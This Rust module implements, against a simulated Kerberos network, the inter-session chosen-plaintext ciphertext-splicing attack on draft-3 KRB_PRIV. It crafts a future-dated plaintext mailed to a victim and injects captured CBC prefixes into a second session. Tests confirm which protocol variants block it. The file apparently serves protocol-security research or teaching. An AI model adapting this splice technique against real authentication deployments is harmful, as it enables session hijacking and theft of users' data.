//! A7 — the inter-session chosen-plaintext attack on KRB_PRIV.
//!
//! "The encrypted portion of messages of this type have the form
//! X = (DATA, timestamp+direction, hostaddress, PAD). Since cipher-block
//! chaining has the property that prefixes of encryptions are
//! encryptions of prefixes, if DATA has the form (AUTHENTICATOR,
//! CHECKSUM, REMAINDER) then a prefix of the encryption of X ... can be
//! used to spoof an entire session with the server. ... Mail and file
//! servers are examples of servers susceptible to such attacks."
//!
//! Concretely: the attacker mails the victim a message whose bytes are a
//! complete, *future-dated* KRB_PRIV plaintext containing a command of
//! the attacker's choice. When the victim reads their mail, the server
//! returns those bytes encrypted under the victim's session key — and a
//! ciphertext *prefix* of that reply is a valid KRB_PRIV message, which
//! the attacker replays into the victim's session.

use crate::env::AttackEnv;
use crate::Outcome;
use kerberos::messages::{frame, WireKind};
use kerberos::services::MailServerLogic;
use kerberos::session::{encode_priv_draft3, Direction, PrivPart};
use kerberos::ProtocolConfig;
use simnet::Datagram;

/// Runs the attack against a fresh deployment under `config`.
pub fn run(config: &ProtocolConfig, seed: u64) -> Outcome {
    let mut env = AttackEnv::new(config, seed);
    let mail_ep = env.realm.service_ep("mail");
    let victim_ep = env.realm.user_ep("pat");
    let second_ep = simnet::Endpoint::new(victim_ep.addr, victim_ep.port + 1);

    // The victim has a live mail session (we keep the credential: it
    // holds the multi-session key that every session under this
    // ticket shares).
    let pat_cred = match env.login("pat").and_then(|tgt| env.ticket("pat", &tgt, "mail")) {
        Ok(c) => c,
        Err(e) => return Outcome::safe(format!("victim ticket failed: {e}")),
    };
    let mut pat_conn = match env.connect("pat", &pat_cred, "mail") {
        Ok(c) => c,
        Err(e) => return Outcome::safe(format!("victim session failed: {e}")),
    };

    // The attacker (a legitimate user) crafts the chosen plaintext:
    // a complete KRB_PRIV part whose DATA is the command to forge,
    // dated slightly in the future (the attacker controls every
    // byte).
    let now_us = env.net.now().0;
    let crafted = encode_priv_draft3(&PrivPart {
        data: b"SEND zach EXFILTRATED-AS-PAT".to_vec(),
        ts_or_seq: now_us + 10_000_000, // ~10 s ahead: fresh at splice time
        direction: Direction::ClientToServer,
        addr: victim_ep.addr.0,
    });
    let crafted_len = crafted.len();

    // Deliver it as mail to the victim.
    let mut zach_conn = match env.victim_session("zach", "mail") {
        Ok(c) => c,
        Err(e) => return Outcome::safe(format!("attacker session failed: {e}")),
    };
    let mut rng = env.rng.clone();
    let mut send_cmd = b"SEND pat ".to_vec();
    send_cmd.extend_from_slice(&crafted);
    if zach_conn.request(&mut env.net, &send_cmd, &mut rng).as_deref() != Ok(b"QUEUED") {
        return Outcome::safe("could not deposit chosen plaintext");
    }

    // The victim reads their mail; the wiretap records the encrypted
    // reply that carries the crafted bytes as DATA.
    let mark = env.net.traffic_log().len();
    let n_msgs: usize = pat_conn
        .request(&mut env.net, b"COUNT", &mut rng)
        .ok()
        .and_then(|r| String::from_utf8_lossy(&r).parse().ok())
        .unwrap_or(0);
    for i in 0..n_msgs {
        let _ = pat_conn.request(&mut env.net, format!("READ {i}").as_bytes(), &mut rng);
    }
    let replies: Vec<Vec<u8>> = env.net.traffic_log()[mark..]
        .iter()
        .filter(|r| {
            !r.is_request
                && r.dgram.src == mail_ep
                && r.dgram.payload.first() == Some(&(WireKind::Priv as u8))
        })
        .map(|r| r.dgram.payload.to_vec())
        .collect();

    // The victim later opens a second mail window with the same
    // ticket — same multi-session key, fresh session state. The
    // attacker splices into *that* session: the substitution of a
    // message from one session into another which true session keys
    // (recommendation e) preclude.
    let conn2 = kerberos::appserver::connect_app(
        &mut env.net,
        config,
        second_ep,
        mail_ep,
        &pat_cred,
        &mut rng,
    );
    if let Err(e) = conn2 {
        return Outcome::safe(format!("victim's second session failed: {e}"));
    }
    drop(conn2); // The second window sits idle.

    // Splice: a block-aligned ciphertext prefix covering (confounder
    // +) crafted bytes. Try each captured reply and each plausible
    // confounder offset; the attacker can afford to try them all.
    let mut attempts = 0;
    for wire in &replies {
        let sealed = &wire[1..];
        for confounder in [8usize, 0] {
            let cut = confounder + crafted_len;
            // The V4 layer carries a leading length word instead of a
            // confounder; include that alignment too.
            for adjust in [0usize, 8] {
                let cut = cut + adjust;
                if cut > sealed.len() || !cut.is_multiple_of(8) {
                    continue;
                }
                attempts += 1;
                let spliced = frame(WireKind::Priv, sealed[..cut].to_vec());
                let _ = env.net.inject(Datagram {
                    src: second_ep,
                    dst: mail_ep,
                    payload: spliced.into(),
                });
            }
        }
    }

    // Did the mail server execute the crafted command as pat?
    let stolen = env.realm.with_app_server(&mut env.net, "mail", |s| {
        s.logic
            .as_any()
            .and_then(|a| a.downcast_ref::<MailServerLogic>())
            .map(|m| {
                m.boxes
                    .get("zach")
                    .map(|msgs| msgs.iter().any(|b| b == b"EXFILTRATED-AS-PAT"))
                    .unwrap_or(false)
            })
            .unwrap_or(false)
    });
    if stolen {
        Outcome::breach(format!(
            "spliced ciphertext prefix accepted: mail server ran the attacker's \
             command as pat ({attempts} splice attempts)"
        ))
    } else {
        Outcome::safe(format!("all {attempts} splice attempts rejected"))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn draft3_cbc_is_spliceable() {
        assert!(run(&ProtocolConfig::v5_draft3(), 1).succeeded);
    }

    #[test]
    fn v4_leading_length_blocks_the_simple_splice() {
        // "The simple attack above does not work against Kerberos
        // Version 4, in which ... the leading length(DATA) field
        // disrupts the prefix-based attack."
        assert!(!run(&ProtocolConfig::v4(), 1).succeeded);
    }

    #[test]
    fn hardened_layer_blocks_it() {
        assert!(!run(&ProtocolConfig::hardened(), 1).succeeded);
    }

    #[test]
    fn subkeys_alone_block_it() {
        // Recommendation (e): with a true session key, the mail-reading
        // session key differs from any other session's, so the splice
        // cannot cross.
        let mut config = ProtocolConfig::v5_draft3();
        config.subkey_negotiation = true;
        assert!(!run(&config, 2).succeeded);
    }
}
